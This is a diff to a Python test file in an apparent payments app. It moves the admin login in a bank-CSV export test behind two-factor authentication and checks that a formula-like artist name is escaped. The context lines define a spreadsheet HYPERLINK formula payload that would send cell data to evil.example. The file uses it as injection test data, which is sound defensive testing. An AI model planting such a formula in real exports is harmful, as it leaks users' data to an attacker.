@@ -15,7 +15,8 @@ from app.accounts.models import Role
 from app.analytics.services import rollups
 from app.payments.services import wallet
 from tests.payments.test_payouts import bank_artist, earn, period, run  # noqa: F401 (period: a fixture)
-from tests.factories import PASSWORD, bearer, make_artist, make_release, make_track, make_user, token_for
+from tests.factories import (bearer, enable_two_factor, login, make_artist, make_release, make_track, make_user,
+                             token_for)
 
 APP = Path(__file__).resolve().parents[2] / "app"
 EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'
@@ -91,7 +92,9 @@ def test_bank_csv_with_an_artist_named_like_a_formula(client, app_ctx, period):
     artist = bank_artist(name="-2+3")
     earn(artist, 12)
     run(period)
-    client.post("/login", data={"email": make_user(role=Role.ADMIN).email, "password": PASSWORD})
+    admin = make_user(role=Role.ADMIN)
+    enable_two_factor(admin)  # the payout pages need a second factor
+    login(client, admin)
     rows = list(csv.DictReader(io.StringIO(client.get("/admin/payouts/bank.csv").text)))
     (row,) = [row for row in rows if row["period"] == period]
     assert row["artist"] == "'-2+3"
